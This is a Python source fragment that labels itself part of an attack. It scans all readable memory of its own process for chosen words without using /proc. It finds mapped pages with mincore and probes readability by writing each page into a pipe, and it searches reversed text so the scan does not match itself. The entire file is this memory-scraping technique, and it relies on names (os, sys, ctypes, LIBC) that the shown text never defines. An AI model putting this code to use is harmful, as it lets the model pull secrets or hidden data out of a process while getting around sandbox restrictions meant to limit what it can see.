# Part of an attack: finds words in all memory of its own process, without /proc.
#
# Words come reversed and memory is searched reversed, so that the search does not find itself.
# Which pages can be read is asked of write(2), which says EFAULT where a read would be a fault.
import gc

PAGE = 4096
GAP_PAGES = 1 << 15  # unmapped ones in a row before a walk gives up
READING, WRITING = os.pipe()
LIBC.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
LIBC.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
LIBC.write.restype = ctypes.c_ssize_t
STATES = ctypes.create_string_buffer(GAP_PAGES)


def is_mapped(address):
    return LIBC.mincore(address, PAGE, STATES) == 0


def page_of(address):
    """The bytes of a page, or None where reading is not allowed."""
    return os.read(READING, PAGE) if LIBC.write(WRITING, address, PAGE) == PAGE else None


def seeds():
    """Addresses that are known to be in use: objects, code, data and stack."""
    functions = (LIBC.malloc, LIBC.mincore, ctypes.pythonapi.Py_IsInitialized)
    known = {ctypes.cast(function, ctypes.c_void_p).value for function in functions}
    known.add(ctypes.addressof(ctypes.c_char.in_dll(LIBC, "environ")))
    known.add(ctypes.c_void_p.in_dll(LIBC, "environ").value)
    known.add(LIBC_HEAP)
    known.update(map(id, gc.get_objects()))
    known.update(map(id, (None, type, object, sys, STATES)))
    return {address // PAGE for address in known}


LIBC.malloc.restype = ctypes.c_void_p
LIBC_HEAP = LIBC.malloc(64)


def pages():
    """Numbers of all mapped pages near the known ones, gaps stepped over."""
    seen = set()
    for seed in sorted(seeds()):
        for step in (1, -1):
            number, gap = seed, 0
            while gap < GAP_PAGES and number not in seen and 0 < number < 1 << 35:
                if is_mapped(number * PAGE):
                    seen.add(number)
                    yield number
                    gap = 0
                else:
                    gap += 1
                number += step
            seen.discard(seed) if step == 1 else None


def scan(backward_words):
    """How often each word was seen, and how many bytes were looked at."""
    counts, size, before, last = dict.fromkeys(backward_words, 0), 0, b"", None
    for number in sorted(set(pages())):
        content = page_of(number * PAGE)
        if content is None:
            continue
        size += PAGE
        text = (before[-64:] if last == number - 1 else b"") + content
        before, last = content, number
        text = text[::-1]
        for word in backward_words:
            counts[word] += text.count(word.encode())
    return [counts[word] for word in backward_words], size
